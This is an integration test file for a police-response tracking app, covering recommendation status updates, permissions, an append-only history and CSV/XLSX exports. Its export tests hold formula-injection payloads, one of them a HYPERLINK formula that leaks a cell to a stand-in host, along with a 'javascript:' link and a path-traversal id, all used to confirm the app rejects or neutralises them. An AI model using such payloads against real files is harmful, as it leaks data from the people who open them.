// After publication (issue 18): each recommendation's action status, who may change it and
// when, its append-only history, the exports for the panel's papers, and follow-up responses
// that carry recommendations on. The real server over real HTTP, and its SQLite file read and
// written directly where the test must go behind the server's back.
//
// The tests run in order on one server and build on each other.
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseFormula } from '../../server/tracking/spreadsheetText';
import type { AuditPage, ResponseDetail } from '../../shared/api';
import { addDays, ukToday } from '../../shared/deadline';
import { responseRecommendationsBodySchema, trackedRecommendationSchema, trackerBodySchema } from '../../shared/schemas/tracking';
import type { ResponseRecommendationsBody, TrackedRecommendation, TrackerBody } from '../../shared/trackingApi';
import { api, inviteUser, sampleResponse } from '../helpers/clients';
import { demoCookies, signOffAndPublish, writeSection, type DemoCookies } from '../helpers/publishSample';
import { directQuery } from '../helpers/directQuery';
import { startTestServer, type TestServer } from '../helpers/server';
import { decodeUtf8Strictly, parseXmlStrictly } from '../helpers/strictXml';

type ErrorBody = { error: { code: string; message: string } };

let server: TestServer;
let cookies: DemoCookies;
let sample: ResponseDetail;
/** A user who is a member of the demo's other response only. */
let outsider: { cookie: string; name: string };

const REC_1 = 'Recommendation 1';
const REC_2 = 'Recommendation 2';

function recommendationId(title: string, response = sample): string {
  const found = response.sections.find((section) => section.title === title);
  if (!found) throw new Error(`no section "${title}"`);
  return found.id;
}

function postUpdate(cookie: string, body: unknown, sectionTitle = REC_1, responseId = sample.id, sectionId = recommendationId(sectionTitle)) {
  return api<TrackedRecommendation & ErrorBody>(server.url, cookie, 'POST', `/api/responses/${responseId}/recommendations/${sectionId}/updates`, body);
}

async function recommendations(cookie = cookies.pcc, responseId = sample.id): Promise<ResponseRecommendationsBody> {
  const got = await api<unknown>(server.url, cookie, 'GET', `/api/responses/${responseId}/recommendations`);
  expect(got.status).toBe(200);
  return responseRecommendationsBodySchema.parse(got.body);
}

async function recommendation(title: string, cookie = cookies.pcc, responseId = sample.id): Promise<TrackedRecommendation> {
  const found = (await recommendations(cookie, responseId)).recommendations.find((item) => item.title === title);
  if (!found) throw new Error(`no recommendation "${title}"`);
  return found;
}

function expectError(result: { status: number; body: unknown }, status: number, code: string): void {
  expect(result.status, JSON.stringify(result.body)).toBe(status);
  expect(result.body).toEqual({ error: { code, message: expect.any(String) } });
}

async function activity(responseId = sample.id): Promise<AuditPage['events']> {
  return (await api<AuditPage>(server.url, cookies.pcc, 'GET', `/api/responses/${responseId}/audit`)).body.events;
}

/** Reads a CSV file as rows of fields (RFC 4180: quoted fields, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  expect(text.startsWith('\uFEFF')).toBe(true);
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const body = text.slice(1);
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && body[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  expect(quoted).toBe(false);
  expect(field).toBe('');
  return rows;
}

async function downloadCsv(cookie = cookies.pcc): Promise<{ header: string[]; rows: Array<Record<string, string>>; raw: string }> {
  const response = await fetch(`${server.url}/api/recommendations.csv`, { headers: { cookie } });
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
  expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="countersign-recommendations-\d{4}-\d{2}-\d{2}\.csv"$/);
  // fetch's text() drops a byte order mark: read the bytes to see it.
  const raw = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(await response.arrayBuffer());
  const [header, ...rows] = parseCsv(raw);
  return { header: header!, rows: rows.map((cells) => Object.fromEntries(header!.map((name, i) => [name, cells[i] ?? '']))), raw };
}

beforeAll(async () => {
  server = await startTestServer({ demo: true });
  cookies = await demoCookies(server.url);
  sample = await sampleResponse(server.url, cookies.pcc);
  const other = (await api<{ responses: Array<{ id: string; title: string }> }>(server.url, cookies.pcc, 'GET', '/api/responses')).body.responses.find(
    (response) => response.id !== sample.id,
  )!;
  const invited = await inviteUser(server.url, cookies.pcc, other.id, { email: 'outsider@example.org', role: 'chief_constable', capacity: 'signatory', name: 'Olu Outsider' });
  outsider = { cookie: invited.cookie, name: invited.user.name };
});

afterAll(async () => {
  await server?.dispose();
});

describe('recommendations before publication', () => {
  it('lists each recommendation with its text and owner, not started, to any member', async () => {
    const body = await recommendations(cookies.viewer);
    expect(body.response).toMatchObject({ id: sample.id, state: 'drafting', me: { role: 'pcc', capacity: 'viewer' } });
    expect(body.recommendations.map((item) => item.title)).toEqual([REC_1, REC_2]);
    expect(body.recommendations[0]).toMatchObject({
      sectionId: recommendationId(REC_1),
      text: expect.stringMatching(/^By February 2022, chief officers responsible for SOC/),
      status: 'not_started',
      hmicfrsView: null,
      owner: 'chief_constable',
      ownerLabel: 'Chief Constable',
      targetDate: null,
      updates: [],
      carriedFrom: null,
      carriedTo: null,
    });
  });

  it('hides a response from non-members (404) and needs a session (401)', async () => {
    expectError(await api(server.url, outsider.cookie, 'GET', `/api/responses/${sample.id}/recommendations`), 404, 'not_found');
    expectError(await api(server.url, null, 'GET', `/api/responses/${sample.id}/recommendations`), 401, 'unauthenticated');
  });

  it('refuses status updates until the response is published (409 not_published)', async () => {
    expectError(await postUpdate(cookies.chief, { status: 'in_progress' }), 409, 'not_published');
    expectError(await postUpdate(cookies.pcc, { status: 'in_progress' }), 409, 'not_published');
  });

  it('refuses a follow-up of a response that is not published (409)', async () => {
    const body = { title: 'Follow-up', report: { title: 'A later inspection', publishedOn: ukToday(), url: 'https://example.org/r' } };
    expectError(await api(server.url, cookies.pcc, 'POST', `/api/responses/${sample.id}/follow-ups`, body), 409, 'not_published');
  });
});

describe('status rules after publication', () => {
  beforeAll(async () => {
    await signOffAndPublish(server.url, cookies, sample.id);
  });

  it("lets the owning role's signatory record a status, a target date, a note and evidence", async () => {
    const target = addDays(ukToday(), 60);
    const posted = await postUpdate(cookies.chief, {
      status: 'in_progress',
      targetDate: target,
      note: 'The regional SOC board agreed joint SIO and LRO working in March.',
      links: ['https://example.org/board-minutes-march.pdf'],
      // Set by the server, never by the caller:
      by: { userId: 'someone', name: 'Mallory' },
      at: '2000-01-01T00:00:00.000Z',
    });
    expect(posted.status, JSON.stringify(posted.body)).toBe(201);
    const item = trackedRecommendationSchema.parse(posted.body);
    expect(item).toMatchObject({ status: 'in_progress', targetDate: target, hmicfrsView: null });
    expect(item.updates).toHaveLength(1);
    expect(item.updates[0]).toMatchObject({
      status: 'in_progress',
      targetDate: target,
      note: 'The regional SOC board agreed joint SIO and LRO working in March.',
      links: ['https://example.org/board-minutes-march.pdf'],
      by: { name: 'Sam Taylor' },
      carriedOver: false,
      responseId: sample.id,
    });
    expect(Date.parse(item.updates[0]!.at)).toBeGreaterThan(Date.now() - 60_000);
    expect(await recommendation(REC_1, cookies.viewer)).toEqual(item);
  });

  it('lets an administrator of the response update it too', async () => {
    const posted = await postUpdate(cookies.pcc, { status: 'in_progress', note: 'The PCC asked for the March minutes.' }, REC_2);
    expect(posted.status, JSON.stringify(posted.body)).toBe(201);
    expect(posted.body.updates.at(-1)?.by.name).toBe('Alex Morgan');
  });

  it("refuses everyone else: another role's signatory, a drafter and a viewer of another role (403), a non-member (404)", async () => {
    for (const cookie of [cookies.lead, cookies.officer, cookies.viewer]) {
      expectError(await postUpdate(cookie, { status: 'completed' }), 403, 'forbidden');
    }
    expectError(await postUpdate(outsider.cookie, { status: 'completed' }), 404, 'not_found');
    expectError(await postUpdate(null as unknown as string, { status: 'completed' }), 401, 'unauthenticated');
    expect((await recommendation(REC_1)).status).toBe('in_progress');
  });

  it('validates the update: unknown status or view, unreal dates, unsafe links, empty notes (400), and changes nothing', async () => {
    const before = await recommendation(REC_1);
    const bad: Array<[unknown, RegExp]> = [
      [{ status: 'done' }, /status/],
      [{}, /status/],
      [{ status: 'in_progress', hmicfrsView: 'happy' }, /hmicfrsView/],
      [{ status: 'in_progress', targetDate: '2026-02-30' }, /targetDate: must be a real date/],
      [{ status: 'in_progress', targetDate: '31/03/2026' }, /targetDate: must be a real date/],
      [{ status: 'in_progress', targetDate: '9999-12-31' }, /targetDate: must be between/],
      [{ status: 'in_progress', links: ['javascript:alert(1)'] }, /links\.0/],
      [{ status: 'in_progress', links: 'https://example.org' }, /links/],
      [{ status: 'in_progress', links: Array.from({ length: 11 }, (_, i) => `https://example.org/${i}`) }, /links/],
      [{ status: 'in_progress', note: ' \u200B ' }, /note: must contain visible text/],
      [{ status: 'in_progress', note: 'x'.repeat(5_001) }, /note: must be 5000 characters or fewer/],
    ];
    for (const [body, says] of bad) {
      const refused = await postUpdate(cookies.chief, body);
      expectError(refused, 400, 'invalid_request');
      expect((refused.body as ErrorBody).error.message).toMatch(says);
    }
    expectError(await postUpdate(cookies.chief, { status: 'in_progress' }), 400, 'nothing_to_record');
    expect(await recommendation(REC_1)).toEqual(before);
  });

  it('answers 404 for a section that is not a recommendation, or not of this response', async () => {
    const prose = sample.sections.find((section) => section.kind === 'prose')!;
    expectError(await postUpdate(cookies.chief, { status: 'completed' }, REC_1, sample.id, prose.id), 404, 'not_found');
    expectError(await postUpdate(cookies.chief, { status: 'completed' }, REC_1, sample.id, 'no-such-section'), 404, 'not_found');
    expectError(await postUpdate(cookies.chief, { status: 'completed' }, REC_1, sample.id, '../../x'), 404, 'not_found');
  });

  it('keeps the target date and view when an update leaves them out, and clears them with null', async () => {
    const first = await recommendation(REC_1);
    const noted = await postUpdate(cookies.chief, { status: 'in_progress', note: 'Joint training booked for April.' });
    expect(noted.status).toBe(201);
    expect(noted.body.targetDate).toBe(first.targetDate);
    const viewed = await postUpdate(cookies.chief, { status: 'completed', hmicfrsView: 'awaiting_review', note: 'Done; evidence sent to HMICFRS.' });
    expect(viewed.body).toMatchObject({ status: 'completed', hmicfrsView: 'awaiting_review', targetDate: first.targetDate });
    const cleared = await postUpdate(cookies.chief, { status: 'completed', targetDate: null });
    expect(cleared.body).toMatchObject({ status: 'completed', hmicfrsView: 'awaiting_review', targetDate: null });
  });

  it('keeps the history append-only: every update, oldest first, none changed by later ones', async () => {
    const item = await recommendation(REC_1);
    expect(item.updates.map((update) => update.status)).toEqual(['in_progress', 'in_progress', 'completed', 'completed']);
    expect(item.updates.map((update) => update.note)).toEqual([
      'The regional SOC board agreed joint SIO and LRO working in March.',
      'Joint training booked for April.',
      'Done; evidence sent to HMICFRS.',
      '',
    ]);
    expect(item.updates[0]!.targetDate).toBe(addDays(ukToday(), 60));
    expect(item.updates.at(-1)!.targetDate).toBeNull();
    const times = item.updates.map((update) => update.at);
    expect([...times].sort()).toEqual(times);
  });

  it('refuses, in the database itself, to change or remove an update', async () => {
    // From a connection of its own to the database (SQLite or PostgreSQL).
    await expect(directQuery(server, "UPDATE recommendation_updates SET status = 'not_started'")).rejects.toThrow(/append-only/);
    await expect(directQuery(server, 'DELETE FROM recommendation_updates')).rejects.toThrow(/append-only/);
    expect(Number((await directQuery(server, 'SELECT COUNT(*) AS n FROM recommendation_updates'))[0]?.n)).toBe(5);
  });

  it('puts every change on the activity record, naming the update it records', async () => {
    const entries = (await activity()).filter((event) => event.action === 'recommendation.updated');
    expect(entries).toHaveLength(5);
    expect(entries[0]).toMatchObject({ actor: { name: 'Sam Taylor' }, sectionId: recommendationId(REC_1) });
    expect(entries[0]!.detail).toMatch(/^Recommendation 1: In progress \(was Not started\); target date \d{1,2} \w+ \d{4}; note: The regional SOC board/);
    expect(entries[0]!.detail).toMatch(/evidence: https:\/\/example\.org\/board-minutes-march\.pdf; record SHA-256 [0-9a-f]{64}$/);
    expect(entries[3]!.detail).toMatch(/HMICFRS's view: Awaiting HMICFRS review/);
    expect(entries[4]!.detail).toMatch(/^Recommendation 1: Completed; target date cleared; record SHA-256/);
  });
});

describe('the exports', () => {
  const HOSTILE_NOTES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    '+SUM(1,2)',
    '-2+3',
    '@SUM(A1:A2)',
    '\u00A0=1+1',
  ];

  it('lists every recommendation the member can see in the CSV, with its current action', async () => {
    const { header, rows } = await downloadCsv();
    expect(header).toEqual([
      'Response',
      'Response state',
      'Recommendation',
      'Recommendation text',
      'Owner',
      'Status',
      "HMICFRS's view",
      'Target date',
      'RAG',
      'Last update',
      'Last updated by',
      'Latest note',
      'Evidence links',
      'Updates',
      'Followed up in',
      'Response ID',
      'Recommendation ID',
    ]);
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      Response: sample.title,
      'Response state': 'Published',
      Recommendation: REC_1,
      'Recommendation text': expect.stringMatching(/^By February 2022, chief officers/),
      Owner: 'Chief Constable',
      Status: 'Completed',
      "HMICFRS's view": 'Awaiting HMICFRS review',
      'Target date': '',
      RAG: 'Complete',
      'Last update': ukToday(),
      'Last updated by': 'Sam Taylor',
      'Latest note': 'Done; evidence sent to HMICFRS.',
      'Evidence links': 'https://example.org/board-minutes-march.pdf',
      Updates: '4',
      // Ids are random: one that starts with "-" is made plain text, as any cell would be.
      'Response ID': neutraliseFormula(sample.id),
      'Recommendation ID': neutraliseFormula(recommendationId(REC_1)),
    });
    expect(rows[1]).toMatchObject({ Recommendation: REC_2, Status: 'In progress', RAG: 'No target date', Updates: '1' });
  });

  it('rates RAG from the target date: red when overdue, amber within 28 days, green after', async () => {
    const cases: Array<[string, string]> = [
      [addDays(ukToday(), -3), 'Red: overdue by 3 days'],
      [ukToday(), 'Amber: due today'],
      [addDays(ukToday(), 27), 'Amber: due in 27 days'],
      [addDays(ukToday(), 28), 'Green: due in 28 days'],
    ];
    for (const [targetDate, rag] of cases) {
      expect((await postUpdate(cookies.chief, { status: 'in_progress', targetDate }, REC_2)).status).toBe(201);
      expect((await downloadCsv()).rows[1]!.RAG).toBe(rag);
    }
  });

  it('makes every text that a spreadsheet would evaluate plain text in the CSV', async () => {
    for (const note of HOSTILE_NOTES) {
      expect((await postUpdate(cookies.chief, { status: 'in_progress', note }, REC_2)).status).toBe(201);
      const { rows, raw } = await downloadCsv();
      // The note comes back as it was typed, behind an apostrophe; no cell of the file starts a formula.
      expect(rows[1]!['Latest note']).toBe(`'${note.trim()}`);
      for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@]/);
      expect(raw).not.toMatch(/(^|,|\r\n)"[=+\-@]/);
    }
  });

  it('writes an XLSX of two sheets, every text a string cell and no cell a formula', async () => {
    const response = await fetch(`${server.url}/api/recommendations.xlsx`, { headers: { cookie: cookies.pcc } });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="countersign-recommendations-[\d-]+\.xlsx"$/);
    const parts = unzipSync(new Uint8Array(await response.arrayBuffer()));
    const xml = (name: string) => {
      const bytes = parts[name];
      if (!bytes) throw new Error(`no part ${name} in ${Object.keys(parts).join(', ')}`);
      const text = decodeUtf8Strictly(bytes);
      parseXmlStrictly(text, name);
      return text;
    };
    expect(xml('xl/workbook.xml')).toMatch(/<sheet [^>]*name="Recommendations"[^>]*\/>.*<sheet [^>]*name="History"/s);

    const strings: string[] = [];
    parseXmlStrictly(xml('xl/sharedStrings.xml'), 'sharedStrings', {
      text: (text, ancestors) => {
        if (ancestors.at(-1) === 't') strings.push(text);
      },
    });
    // The notes are kept exactly as typed (a string cell is never evaluated, so nothing is added).
    for (const note of HOSTILE_NOTES) expect(strings).toContain(note.trim());

    for (const sheet of ['xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml']) {
      const cells: Array<{ type: string | undefined; formula: boolean }> = [];
      parseXmlStrictly(xml(sheet), sheet, {
        element: (element) => {
          if (element.name === 'c') cells.push({ type: element.attributes.t, formula: false });
          if (element.name === 'f') cells.at(-1)!.formula = true;
        },
      });
      expect(cells.length).toBeGreaterThan(10);
      expect(cells.filter((cell) => cell.formula)).toEqual([]);
      // Text cells are shared strings; the rest are numbers or dates (no type attribute).
      expect(new Set(cells.map((cell) => cell.type ?? 'n'))).toEqual(new Set(['s', 'n']));
    }
    // The history sheet has a header and a row per update.
    const historyRows = (xml('xl/worksheets/sheet2.xml').match(/<row /g) ?? []).length;
    expect(historyRows).toBe(1 + (await recommendation(REC_1)).updates.length + (await recommendation(REC_2)).updates.length);
  });

  it("covers only the responses the member is in, and needs a session", async () => {
    const { rows } = await downloadCsv(outsider.cookie);
    expect(rows).toEqual([]);
    const tracker = trackerBodySchema.parse((await api<TrackerBody>(server.url, outsider.cookie, 'GET', '/api/recommendations')).body);
    expect(tracker.responses.map((response) => response.id)).not.toContain(sample.id);
    expect((await fetch(`${server.url}/api/recommendations.csv`)).status).toBe(401);
    expect((await fetch(`${server.url}/api/recommendations.xlsx`)).status).toBe(401);
  });
});

describe('a follow-up response', () => {
  let followUp: ResponseDetail;
  const REPORT = { title: 'Regional Organised Crime Units: a revisit', publishedOn: addDays(ukToday(), -2), url: 'https://example.org/rocu-revisit' };

  it('may be started only by an administrator of the published response', async () => {
    const body = { title: 'Response to the ROCU revisit', report: REPORT, optionalSections: [] };
    expectError(await api(server.url, cookies.chief, 'POST', `/api/responses/${sample.id}/follow-ups`, body), 403, 'forbidden');
    expectError(await api(server.url, cookies.pcc, 'POST', `/api/responses/${sample.id}/follow-ups`, { ...body, report: { ...REPORT, publishedOn: '2026-13-01' } }), 400, 'invalid_request');
    const created = await api<ResponseDetail>(server.url, cookies.pcc, 'POST', `/api/responses/${sample.id}/follow-ups`, body);
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    followUp = created.body;
    expect(followUp).toMatchObject({ title: 'Response to the ROCU revisit', state: 'drafting', report: REPORT, me: { role: 'pcc', capacity: 'signatory', administrator: true } });
  });

  it('carries the recommendations over, with their text, owner and whole status history', async () => {
    expect(followUp.sections.map(({ kind, title, ownerRole }) => ({ kind, title, ownerRole }))).toEqual([
      { kind: 'prose', title: "Police and Crime Commissioner's comments", ownerRole: 'pcc' },
      { kind: 'prose', title: 'Chief Officer comments', ownerRole: 'chief_constable' },
      { kind: 'prose', title: 'Portfolio lead comments', ownerRole: 'portfolio_lead' },
      { kind: 'recommendation', title: REC_1, ownerRole: 'chief_constable' },
      { kind: 'recommendation', title: REC_2, ownerRole: 'chief_constable' },
    ]);
    const [earlier, carried] = [await recommendation(REC_1), await recommendation(REC_1, cookies.chief, followUp.id)];
    expect(carried.text).toBe(earlier.text);
    expect(carried).toMatchObject({ status: earlier.status, hmicfrsView: earlier.hmicfrsView, targetDate: earlier.targetDate });
    expect(carried.updates).toEqual(earlier.updates.map((update) => ({ ...update, carriedOver: true })));
    expect(carried.carriedFrom).toEqual({ responseId: sample.id, sectionId: recommendationId(REC_1), responseTitle: sample.title, responseState: 'published' });
    expect(earlier.carriedTo).toMatchObject({ responseId: followUp.id, responseTitle: followUp.title, responseState: 'drafting' });
    expect(earlier.supersededByPublishedFollowUp).toBe(false);
  });

  it('brings the members along in their seats, and says so on both records', async () => {
    const members = followUp.members.map(({ email, role, capacity, administrator }) => ({ email, role, capacity, administrator }));
    expect(members).toEqual(expect.arrayContaining([
      { email: 'chief@example.org', role: 'chief_constable', capacity: 'signatory', administrator: false },
      { email: 'viewer@example.org', role: 'pcc', capacity: 'viewer', administrator: false },
      { email: 'pcc@example.org', role: 'pcc', capacity: 'signatory', administrator: true },
    ]));
    expect(members).toHaveLength(5);
    expect((await activity(followUp.id))[0]!.detail).toMatch(/^Follow-up to ".*Wiltshire.*"; 2 recommendations carried over with their status history/);
    expect((await activity()).at(-1)).toMatchObject({ action: 'recommendations.carried_over', detail: expect.stringContaining('Response to the ROCU revisit') });
  });

  it('refuses a second follow-up of the same response (409)', async () => {
    const body = { title: 'Another', report: REPORT };
    expectError(await api(server.url, cookies.pcc, 'POST', `/api/responses/${sample.id}/follow-ups`, body), 409, 'already_followed_up');
  });

  it('keeps the earlier response tracked until the follow-up is published, its updates showing in both', async () => {
    expectError(await postUpdate(cookies.chief, { status: 'completed' }, REC_2, followUp.id, recommendationId(REC_2, followUp)), 409, 'not_published');
    expect((await postUpdate(cookies.chief, { status: 'completed', note: 'Chief officer appointed.' }, REC_2)).status).toBe(201);
    const carried = await recommendation(REC_2, cookies.chief, followUp.id);
    expect(carried.status).toBe('completed');
    expect(carried.updates.at(-1)).toMatchObject({ note: 'Chief officer appointed.', carriedOver: true, responseId: sample.id });
  });

  it('once the follow-up is published, tracks the recommendations there and no more on the earlier response', async () => {
    const writers: Record<string, string> = { pcc: cookies.pcc, chief_constable: cookies.chief, portfolio_lead: cookies.lead };
    for (const section of followUp.sections) {
      await writeSection(server.url, writers[section.ownerRole]!, followUp.id, section.id, `What the ${section.title} says after the revisit.`);
    }
    await signOffAndPublish(server.url, cookies, followUp.id);

    expectError(await postUpdate(cookies.chief, { status: 'in_progress', note: 'More to do.' }, REC_2), 409, 'followed_up');
    const posted = await postUpdate(cookies.chief, { status: 'in_progress', note: 'Reopened after the revisit.' }, REC_2, followUp.id, recommendationId(REC_2, followUp));
    expect(posted.status, JSON.stringify(posted.body)).toBe(201);
    expect(posted.body.updates.at(-1)).toMatchObject({ note: 'Reopened after the revisit.', carriedOver: false, responseId: followUp.id });
    const earlier = await recommendation(REC_2);
    expect(earlier).toMatchObject({ supersededByPublishedFollowUp: true, status: 'completed' });

    const { rows } = await downloadCsv();
    expect(rows.map((row) => [row.Response, row.Recommendation, row.Status, row.RAG!.split(':')[0]])).toEqual([
      [sample.title, REC_1, 'Completed', 'Tracked in the follow-up response'],
      [sample.title, REC_2, 'Completed', 'Tracked in the follow-up response'],
      [followUp.title, REC_1, 'Completed', 'Complete'],
      [followUp.title, REC_2, 'In progress', 'Green'],
    ]);
    expect(rows[0]!['Followed up in']).toBe(followUp.title);
  });
});
